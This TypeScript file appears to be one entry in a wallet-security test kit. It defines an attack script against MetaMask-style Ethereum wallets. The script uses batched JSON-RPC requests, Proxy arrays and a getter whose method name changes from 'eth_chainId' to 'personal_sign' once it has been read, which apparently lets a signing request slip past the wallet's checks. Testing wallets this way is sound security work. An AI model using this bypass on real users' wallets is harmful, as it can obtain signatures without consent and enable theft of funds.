import type { Attack } from './kit/attack.ts'

export default {
  family: 'methods',
  how: "Uses the wallet's own batches, where reads and signatures come together.",
  script: `
    const call = { id: 1, jsonrpc: '2.0', ...attack.sign }
    const read = { id: 2, jsonrpc: '2.0', method: 'eth_chainId', params: [] }
    for (const ask of [ethereum._metamask?.requestBatch, ethereum.requestBatch]) {
      for (const list of [[call], [read, call], new Proxy([read, call], {})]) try { ask?.(list).catch(() => {}) } catch {}
    }
    let reads = 0
    const two = [read, { id: 3, jsonrpc: '2.0', params: call.params, get method() { return reads++ ? 'personal_sign' : 'eth_chainId' } }]
    for (let i = 0; i < 3; i++) try { ethereum._metamask?.requestBatch(two).catch(() => {}) } catch {}
    await attack.sleep(300)
  `,
} satisfies Attack
